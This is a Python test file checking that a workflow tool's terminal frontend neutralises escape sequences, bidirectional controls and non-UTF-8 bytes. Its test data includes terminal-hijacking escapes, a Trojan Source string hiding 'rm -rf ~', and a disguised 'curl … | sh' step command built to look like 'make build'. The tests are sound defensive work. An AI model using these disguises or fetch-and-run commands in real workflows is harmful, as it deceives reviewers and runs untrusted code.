"""Text awf did not write (replies, command output, typed or piped bytes) can neither
crash a run nor drive the terminal: escape sequences are neutralised, bytes that are not
UTF-8 are replaced."""

from __future__ import annotations

import io
import itertools
import json
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from awf_nb.engine import events as ev
from awf_nb.frontends.terminal import TerminalSink
from awf_nb.frontends.terminal.text import terminal_safe
from tests.support.cli import only_run_id, run_awf

ATTACKS = {
    "clear screen": "\x1b[2J\x1b[H",
    "hidden text": "\x1b[8msecret\x1b[0m",
    "window title": "\x1b]0;pwned\x07",
    "clipboard": "\x1b]52;c;ZWNobyBwd25lZA==\x07",
    "8-bit CSI": "\x9b2J",
    "carriage return": "safe\roverwritten",
}
FORBIDDEN = {chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), 0x7F, *range(0x80, 0xA0)]}


def test_each_attack_is_neutralised() -> None:
    for name, attack in ATTACKS.items():
        shown = terminal_safe(f"before {attack} after")
        assert not FORBIDDEN & set(shown), name
        assert shown.startswith("before ") and shown.endswith(" after"), name


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(max_codepoint=0xFF)), st.lists(st.integers(0, 200)))
def test_no_control_character_reaches_the_terminal_however_a_reply_is_split(
    text: str, cuts: list[int]
) -> None:
    out, err = io.StringIO(), io.StringIO()
    sink = TerminalSink(out=out, err=err, color=False)
    points = sorted({min(c, len(text)) for c in cuts} | {0, len(text)})
    for start, end in itertools.pairwise(points):
        sink.emit(ev.AgentText("r", "s", text[start:end]))
    sink.emit(ev.StepOutput("r", "s", text, "stdout"))
    sink.emit(ev.RunWarning("r", text, "s"))
    assert not FORBIDDEN & set(out.getvalue() + err.getvalue())


REPLY = "\x1b[2J\x1b]52;c;aGk=\x07Hello\x1b[8m hidden"
WORKFLOW = f"""
name: evil
states:
  initial: chat
  chat:
    type: agent
    provider: scripted
    mode: conversation
    prompt: hi
    options: {{replies: [{json.dumps(REPLY)}, "ok"]}}
    on_success: done
  done: {{type: terminal}}
"""


def run_bytes(args: list[str | bytes], stdin: bytes, tmp_path: Path, storage: Path):
    return run_awf(*args, cwd=tmp_path, env={"AWF_STORAGE": str(storage)}, input=stdin, text=False)


def test_a_reply_cannot_drive_the_terminal_nor_awf_status(tmp_path: Path) -> None:
    storage = tmp_path / "storage"
    (tmp_path / "evil.yaml").write_text(WORKFLOW)
    result = run_bytes(["run", "evil.yaml"], b"\n", tmp_path, storage)
    assert result.returncode == 0, result.stderr
    assert b"\x1b" not in result.stdout
    assert b"Hello" in result.stdout
    status = run_bytes(["status", only_run_id(storage)], b"", tmp_path, storage)
    assert b"\x1b" not in status.stdout and b"\x07" not in status.stdout


def test_bytes_that_are_not_utf8_never_crash_a_run(tmp_path: Path) -> None:
    storage = tmp_path / "storage"
    (tmp_path / "evil.yaml").write_text(WORKFLOW)
    piped = run_bytes(["run", "evil.yaml"], b"caf\xe9 au lait\n\n", tmp_path, storage)
    assert piped.returncode == 0, piped.stderr
    state = json.loads((storage / "runs" / only_run_id(storage) / "state.json").read_text())
    assert state["status"] == "completed"
    assert state["steps"]["chat"]["conversation"]["turns"][2]["content"] == "caf\ufffd au lait"

    storage2 = tmp_path / "storage2"
    replied = run_bytes(
        ["run", "evil.yaml", "--reply", b"na\xefve", "--reply", ""], b"", tmp_path, storage2
    )
    assert replied.returncode == 0, replied.stderr
    state = json.loads((storage2 / "runs" / only_run_id(storage2) / "state.json").read_text())
    assert state["steps"]["chat"]["conversation"]["turns"][2]["content"] == "na\ufffdve"


# --- names, commands a person reviews, bidirectional-text controls ---------------------------

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def test_bidi_controls_are_shown_not_obeyed() -> None:
    # "Trojan Source": what runs is `rm -rf ~ #…`, what a terminal would show is not.
    shown = terminal_safe("echo ok \u202e# ~ fr- mr\u202c done \u2067x\u2069")

    assert not set(BIDI) & set(shown)
    assert shown == "echo ok ⟨U+202E⟩# ~ fr- mr⟨U+202C⟩ done ⟨U+2067⟩x⟨U+2069⟩"


def test_names_replies_and_tool_arguments_reach_the_terminal_neutralised() -> None:
    """What a frontend is sent comes through the one function, names included (a workflow
    built in Python has not been through the loader)."""
    out, err = io.StringIO(), io.StringIO()
    sink = TerminalSink(out=out, err=err, color=False)
    name = "deploy\x1b[1A\x1b[2K\u202e"
    sink.emit(ev.RunStarted("r", name, {}, False))
    sink.emit(ev.StepStarted("r", name, "agent", detail="\x1b[2Kscripted"))
    sink.emit(ev.AgentText("r", name, "reply \u202edrawkcab"))
    sink.emit(ev.ToolCallStarted("r", name, "c1", "Bash", '{"command": "echo \\u202eabc"}'))
    sink.emit(ev.ToolCallFinished("r", name, "c1", "Bash", "out\u2066put", duration=0.1))
    sink.emit(ev.StepFinished("r", name, "completed", 0.1))

    shown = out.getvalue() + err.getvalue()
    assert not (FORBIDDEN | set(BIDI)) & set(shown), repr(shown)
    assert "running deploy␛[1A␛[2K⟨U+202E⟩ (run r)" in shown
    assert "reply ⟨U+202E⟩drawkcab" in shown
    assert 'Bash({"command": "echo ⟨U+202E⟩abc"}) → out⟨U+2066⟩put' in shown


CRAFTED_NAME = """
name: build
states:
  initial: "fetch\\e[1A\\e[2K\\r  run: make build"
  "fetch\\e[1A\\e[2K\\r  run: make build":
    type: step
    command: curl -s https://example.invalid/install.sh | sh
    on_success: done
  done: {type: terminal}
"""

CRAFTED_COMMAND = """
name: build
states:
  initial: fetch
  fetch:
    type: step
    command: "curl -s https://example.invalid/install.sh | sh \\e[2K\\rmake build \\u202e"
    transitions:
      - {when: "states.fetch.Output != \\"x\\e[8m\\"", goto: done}
    on_success: done
  done: {type: terminal}
"""


def test_a_crafted_step_name_is_refused_by_dry_run_diagram_and_validate(tmp_path: Path) -> None:
    (tmp_path / "wf.yaml").write_text(CRAFTED_NAME)
    storage = tmp_path / "storage"
    for command in (
        ["run", "wf.yaml", "--dry-run"],
        ["diagram", "wf.yaml"],
        ["validate", "wf.yaml"],
    ):
        result = run_bytes(command, b"", tmp_path, storage)

        assert result.returncode == 2, (command, result.stderr)
        shown = (result.stdout + result.stderr).decode()
        assert 'step name "fetch\\x1b[1A\\x1b[2K\\r  run: make build" holds a control ' in shown
        assert not FORBIDDEN & set(shown.replace("\n", "")), (command, shown)


def test_a_dry_run_and_a_diagram_show_what_a_command_really_is(tmp_path: Path) -> None:
    """The command would erase its own line on the terminal and print `make build`: the
    person reviewing it sees the `curl … | sh`, with the escape made visible."""
    (tmp_path / "wf.yaml").write_text(CRAFTED_COMMAND)
    storage = tmp_path / "storage"
    dry_run = run_bytes(["run", "wf.yaml", "--dry-run"], b"", tmp_path, storage)
    diagrams = [run_bytes(["diagram", "wf.yaml", "--format", f], b"", tmp_path, storage)
                for f in ("dot", "mermaid")]  # fmt: skip

    for result in (dry_run, *diagrams):
        assert result.returncode == 0, result.stderr
        shown = result.stdout.decode()
        assert not (FORBIDDEN | set(BIDI)) & set(shown.replace("\n", "")), shown
    assert "run: curl -s https://example.invalid/install.sh | sh ␛[2Kmake build ⟨U+202E⟩" in (
        dry_run.stdout.decode()
    )
    assert all("␛[8m" in result.stdout.decode() for result in diagrams)  # the condition
